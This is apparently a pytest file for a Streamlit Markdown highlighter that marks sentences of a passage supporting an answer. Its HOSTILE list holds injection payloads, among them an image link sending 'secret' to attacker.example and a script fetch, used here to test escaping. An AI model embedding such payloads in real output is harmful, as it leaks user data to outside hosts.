from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from ui.highlight import highlighted_markdown
from ui.safe import literal_markdown

OPEN = ":orange-background["
MINUTES = (
    "The meeting opened at 09:30 in Board Room 2.  The board approved a total budget of "
    "EUR 4,750,000 for the Harbour Renovation Project.\n"
    "Works start in the second quarter; completion is planned for late autumn.\n\n"
    "Dr. Hansen presented the tender results for the quay walls."
)


def highlights(markdown: str) -> list[str]:
    """The labels of the highlight directives, found as Streamlit's Markdown parser finds
    them: a `:` that is not escaped opens a directive, and its label ends at the first `]`
    that is neither escaped nor closing a `[` opened inside it."""
    labels = []
    index = 0
    while index < len(markdown):
        char = markdown[index]
        if char == "\\":
            index += 2
            continue
        if char == ":":
            assert markdown.startswith(OPEN, index), f"a directive of the passage at {index}"
            start = end = index + len(OPEN)
            balance = 0
            while markdown[end] != "]" or balance:
                if markdown[end] == "\\" and markdown[end + 1] in "[]\\":
                    end += 1
                elif markdown[end] == "[":
                    balance += 1
                elif markdown[end] == "]":
                    balance -= 1
                assert markdown[end] != "\n", "a highlight spans a line break"
                end += 1
            labels.append(markdown[start:end])
            index = end + 1
            continue
        assert char not in "[]", f"an unescaped bracket of the passage at {index}"
        index += 1
    return labels


def test_the_quoted_sentence_is_highlighted_even_when_its_spacing_differs() -> None:
    quote = "The board approved a total budget of EUR 4,750,000 for the Harbour Renovation Project."
    markdown = highlighted_markdown(MINUTES, "anything", quote=quote)
    assert highlights(markdown) == [literal_markdown(quote)]


def test_a_quote_over_two_lines_highlights_each_line() -> None:
    quote = "Renovation Project. Works start in the second quarter"
    assert len(highlights(highlighted_markdown(MINUTES, "", quote=quote))) == 2


def test_neighbouring_sentences_on_one_line_are_one_highlight() -> None:
    quote = "Dr. Hansen presented the tender results for the quay walls."
    assert highlights(highlighted_markdown(MINUTES, "", quote=quote)) == [literal_markdown(quote)]


def test_a_sentence_sharing_a_figure_with_the_answer_is_highlighted_in_any_notation() -> None:
    answer = "The approved budget is EUR 4.750.000 [1]."
    assert highlights(highlighted_markdown(MINUTES, answer)) == [
        literal_markdown(
            "The board approved a total budget of EUR 4,750,000 for the Harbour Renovation Project."
        )
    ]


def test_a_sentence_whose_words_the_answer_mostly_repeats_is_highlighted() -> None:
    answer = "Completion of the works is planned for late autumn; they start in the second quarter."
    assert highlights(highlighted_markdown(MINUTES, answer)) == [
        literal_markdown(
            "Works start in the second quarter; completion is planned for late autumn."
        )
    ]


def test_a_sentence_sharing_only_a_few_words_is_not_highlighted() -> None:
    answer = "Dr. Hansen chairs the infrastructure directorate."
    assert highlights(highlighted_markdown(MINUTES, answer)) == []


def test_a_quote_not_in_the_passage_falls_back_to_the_answer() -> None:
    markdown = highlighted_markdown(MINUTES, "EUR 4,750,000", quote="A sentence of another file.")
    assert len(highlights(markdown)) == 1
    assert "4,750,000" in highlights(markdown)[0]


def test_without_support_the_passage_is_exactly_the_literal_markdown() -> None:
    assert highlighted_markdown(MINUTES, "Who won the cup?") == literal_markdown(MINUTES)
    assert highlighted_markdown("", "answer", quote="answer") == ""


def test_line_breaks_and_paragraphs_of_the_passage_are_kept() -> None:
    passage = "First line about the budget of 4,750,000.\r\nSecond line.\r\rThird paragraph."
    markdown = highlighted_markdown(passage, "4,750,000")
    assert markdown == (
        ":orange-background[First line about the budget of 4,750,000\\.]  \n"
        "Second line\\.  \n  \nThird paragraph\\."
    )


def test_a_long_sentence_is_highlighted_in_labels_a_directive_can_hold() -> None:
    sentence = "The budget of 4,750,000 covers " + "quay walls, cranes and [sheds] " * 60 + "."
    labels = highlights(highlighted_markdown(sentence, "4,750,000"))
    assert len(labels) > 1
    assert all(len(label) <= 999 for label in labels)
    assert "".join(labels) == literal_markdown(sentence)


HOSTILE = [
    "The budget is 4,750,000 ![x](http://attacker.example/leak?q=secret) indeed.",
    "The budget is 4,750,000 [click](http://attacker.example/) <img src=http://attacker.example/p.png>",
    "The budget is 4,750,000 <script>fetch('http://attacker.example')</script> **bold**",
    "The budget is 4,750,000 <http://attacker.example/autolink>",
    "The budget is 4,750,000 ] :red[forged] [x]: http://attacker.example/ref",
    "The budget is 4,750,000 ]{.evil} :orange-background[fake](http://attacker.example/)",
    "The budget is 4,750,000 \\] \\\\] still inside http://attacker.example",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_highlighted_hostile_sentence_renders_as_text_and_stays_inside_its_highlight(
    hostile: str,
) -> None:
    markdown = highlighted_markdown(hostile, "4,750,000")
    assert highlights(markdown) == [literal_markdown(hostile)]
    html = MarkdownIt("commonmark").render(markdown)
    assert "<img" not in html and "<a " not in html and "<script" not in html
    assert "attacker.example" in html  # shown, as characters


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_passage_around_the_highlight_renders_as_text(hostile: str) -> None:
    passage = f"Works start in May.\n{hostile}\n[ref]: http://attacker.example/\n![y][ref]"
    markdown = highlighted_markdown(passage, "", quote="Works start in May.")
    assert highlights(markdown) == [literal_markdown("Works start in May.")]
    html = MarkdownIt("commonmark").render(markdown)
    assert "<img" not in html and "<a " not in html and "<script" not in html
